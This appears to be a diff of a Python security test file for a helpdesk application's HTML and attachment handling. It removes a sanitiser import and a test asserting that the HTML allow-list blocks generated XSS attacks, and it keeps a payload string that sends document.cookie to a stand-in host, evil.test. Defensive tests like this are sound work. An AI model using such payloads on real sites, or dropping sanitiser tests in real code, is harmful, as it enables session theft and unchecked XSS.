@@ -9,7 +9,6 @@ from __future__ import annotations
 from html.parser import HTMLParser
 from itertools import product
 
-from helpdesk.adapters.mime.html import sanitise
 from tests.security.desk import ANNA, EVE, IVAN, Desk, mail, opened, page, reply
 
 ALERTS = ("alert(1)", "location='http://evil.test/'+document.cookie")
@@ -145,12 +144,3 @@ def test_file_that_would_run_in_a_browser_travels_as_a_plain_file(open_desk: Des
     notified = next(letter for letter in open_desk.send() if letter.event == "notify")
     sent = {part.get_content_type() for part in opened(notified).iter_attachments()}
     assert sent == {"application/octet-stream"}
-
-
-def test_the_allow_list_for_html_lets_none_of_them_through() -> None:
-    allowed = OURS | set("a center abbr span small s u i q em strong tt pre hr".split())
-    for attack in attacks():
-        judge = Judge()
-        judge.feed(sanitise(f"<p>x</p>{attack}"))
-        active = [one for one in judge.foreign if one.partition(" ")[0] not in allowed or " on" in one]
-        assert active == [], attack
